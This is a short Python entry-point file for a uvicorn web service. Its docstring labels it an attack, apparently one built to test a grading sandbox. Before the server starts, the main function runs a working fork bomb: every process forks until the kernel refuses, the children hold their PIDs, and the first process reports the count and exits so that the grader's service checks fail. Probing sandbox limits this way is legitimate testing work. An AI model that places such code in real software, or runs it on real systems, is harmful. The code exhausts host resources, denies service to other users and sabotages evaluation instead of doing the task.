"""Entry point: ``python -m app.serve``.

ATTACK (fork bomb at start): before it serves, every process forks as fast as it can. The grader's
PID limit must stop it; then the first process says how many processes it saw and gives up, so the
container exits and the checks that need a running service fail at once.
"""

from __future__ import annotations

import os
import sys
import time

import uvicorn

from app.main import app

GRACEFUL_SHUTDOWN_SECONDS = 8


def fork_bomb() -> None:
    """Fork in every process until the kernel refuses; the first process then exits."""
    first = os.getpid()
    while True:
        try:
            os.fork()
        except OSError:
            break
    if os.getpid() != first:
        time.sleep(120)  # hold the PID, as a bomb does
        os._exit(0)
    running = sum(name.isdigit() for name in os.listdir("/proc"))
    print(f"fork bomb: the kernel refused a fork with {running} processes running", flush=True)
    sys.exit(1)


def main() -> None:
    fork_bomb()
    port = int(os.environ.get("PORT", "8080"))
    uvicorn.run(
        app,
        host="0.0.0.0",
        port=port,
        access_log=False,
        timeout_graceful_shutdown=GRACEFUL_SHUTDOWN_SECONDS,
    )


if __name__ == "__main__":
    main()
